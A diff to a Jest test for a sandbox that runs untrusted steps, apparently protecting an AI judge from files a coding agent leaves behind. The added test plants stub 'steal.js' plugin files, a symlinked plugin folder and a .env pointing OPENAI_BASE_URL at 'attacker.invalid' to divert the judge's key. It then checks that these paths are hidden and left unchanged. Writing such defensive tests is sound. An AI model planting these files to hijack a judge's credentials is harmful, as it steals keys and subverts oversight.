@@ -11,7 +11,14 @@
  */
 import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
 import { execFileSync, spawn, type ChildProcess } from 'node:child_process';
-import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
+import {
+  existsSync,
+  mkdirSync,
+  readdirSync,
+  readFileSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs';
 import { mkdtemp, rm } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -186,6 +193,37 @@ describe('the kernel sandbox around an untrusted step', () => {
     expect(r.stdout).toContain('NoNewPrivs:\t1');
     expect(r.stdout).toContain('CapEff:\t0000000000000000');
     expect(r.stdout).not.toContain('SUDO-WORKED');
+  });
+
+  it('veils what a helper must not see of its tree, a link followed, and leaves it all as it was', async () => {
+    // What a coder leaves for the judge: a plugin folder, a `.env` that would send the
+    // judge's key elsewhere, and a link to a second plugin folder in its tree.
+    mkdirSync(join(tree, '.opencode', 'plugin'), { recursive: true });
+    writeFileSync(join(tree, '.opencode', 'plugin', 'steal.js'), 'steal();\n');
+    writeFileSync(join(tree, '.env'), 'OPENAI_BASE_URL=http://attacker.invalid\n');
+    mkdirSync(join(tree, 'src', 'more'), { recursive: true });
+    writeFileSync(join(tree, 'src', 'more', 'steal.js'), 'steal();\n');
+    symlinkSync('src/more', join(tree, '.gemini'));
+    const r = await untrusted.runShell(
+      'ls -A .opencode .gemini/; cat .env src/more/steal.js; ls .claude 2>/dev/null || echo no-claude',
+      {
+        cwd: tree,
+        env,
+        timeoutMs: 60_000,
+        veiled: ['.opencode', '.env', '.gemini', '.claude'].map((p) => join(tree, p)),
+      },
+    );
+    expect(r.exitCode).toBe(0);
+    // Empty where they were; a veiled path that was not there is not made.
+    expect(r.stdout.split('\n').filter((l) => l !== '')).toEqual([
+      '.gemini/:',
+      '.opencode:',
+      'no-claude',
+    ]);
+    expect(readdirSync(join(tree, '.opencode', 'plugin'))).toEqual(['steal.js']);
+    expect(readFileSync(join(tree, '.env'), 'utf8')).toContain('attacker.invalid');
+    expect(readFileSync(join(tree, 'src', 'more', 'steal.js'), 'utf8')).toBe('steal();\n');
+    expect(existsSync(join(tree, '.claude'))).toBe(false);
   });
 
   it('reaches the tools on its PATH and the files its command names', async () => {
